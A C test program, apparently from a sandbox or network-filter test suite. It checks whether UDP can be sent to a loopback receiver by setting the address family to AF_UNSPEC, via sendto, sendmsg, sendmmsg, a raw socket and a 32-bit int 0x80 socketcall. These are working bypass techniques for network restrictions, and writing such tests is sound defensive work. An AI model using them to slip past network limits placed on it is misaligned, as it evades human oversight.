/* UDP through AF_UNSPEC: on an IPv4 datagram or raw socket the kernel reads a destination whose
   sa_family is AF_UNSPEC as AF_INET and sends. usage: unspec PORT [socketcall]
   A receiver bound to 127.0.0.1:PORT counts what arrives. Prints one line per attack ("TAG ok" or
   "TAG err=N") and one "received TAG" per datagram that reached the receiver. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

static struct sockaddr_in target(unsigned short port) {
  struct sockaddr_in a;
  memset(&a, 0, sizeof a);
  a.sin_family = AF_UNSPEC; /* the attack: not AF_INET, yet the kernel sends to sin_addr:sin_port */
  a.sin_port = htons(port);
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  return a;
}

static void report(const char *tag, long r) {
  if (r >= 0) printf("%s ok\n", tag); else printf("%s err=%d\n", tag, errno);
  fflush(stdout);
}

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  unsigned short port = atoi(argv[1]);
  int rx = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
  struct sockaddr_in bound = target(port);
  bound.sin_family = AF_INET;
  if (bind(rx, (struct sockaddr *)&bound, sizeof bound) != 0) { perror("bind"); return 3; }
  struct sockaddr_in to = target(port);

  int s = socket(AF_INET, SOCK_DGRAM, 0);
  report("sendto", sendto(s, "sendto", 6, 0, (struct sockaddr *)&to, sizeof to));

  struct iovec iov = {"sendmsg", 7};
  struct msghdr m;
  memset(&m, 0, sizeof m);
  m.msg_name = &to;
  m.msg_namelen = sizeof to;
  m.msg_iov = &iov;
  m.msg_iovlen = 1;
  report("sendmsg", sendmsg(s, &m, 0));

  struct iovec iov2 = {"sendmmsg", 8};
  struct mmsghdr mm[2];
  memset(mm, 0, sizeof mm);
  for (int i = 0; i < 2; i++) {
    mm[i].msg_hdr.msg_name = &to;
    mm[i].msg_hdr.msg_namelen = sizeof to;
    mm[i].msg_hdr.msg_iov = &iov2;
    mm[i].msg_hdr.msg_iovlen = 1;
  }
  report("sendmmsg", sendmmsg(s, mm, 2, 0));

  /* a raw IPv4 socket carrying UDP: the kernel adds the IP header, we give the UDP one */
  int r = socket(AF_INET, SOCK_RAW, IPPROTO_UDP);
  if (r < 0) {
    report("raw", -1);
  } else {
    unsigned char pkt[8 + 3];
    unsigned short sport = htons(40000), dport = htons(port), len = htons(sizeof pkt);
    memcpy(pkt, &sport, 2);
    memcpy(pkt + 2, &dport, 2);
    memcpy(pkt + 4, &len, 2);
    memset(pkt + 6, 0, 2); /* no checksum (allowed over IPv4) */
    memcpy(pkt + 8, "raw", 3);
    report("raw", sendto(r, pkt, sizeof pkt, 0, (struct sockaddr *)&to, sizeof to));
  }

  if (argc > 2 && strcmp(argv[2], "socketcall") == 0) {
    /* i386 socketcall(SYS_SENDTO) from this 64-bit process: 32-bit words and pointers */
    char *low = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) return 3;
    memcpy(low, &to, sizeof to);
    memcpy(low + 64, "socketcall", 10);
    uint32_t *args = (uint32_t *)(low + 128);
    args[0] = s;
    args[1] = (uint32_t)(uintptr_t)(low + 64);
    args[2] = 10;
    args[3] = 0;
    args[4] = (uint32_t)(uintptr_t)low;
    args[5] = sizeof to;
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(102L), "b"(11L), "c"(args) : "memory");
    if (ret < 0) { errno = -ret; ret = -1; }
    report("socketcall", ret);
  }

  usleep(200 * 1000);
  char buf[64];
  ssize_t n;
  while ((n = recv(rx, buf, sizeof buf - 1, 0)) >= 0) {
    buf[n] = 0;
    printf("received %s\n", buf);
  }
  return 0;
}
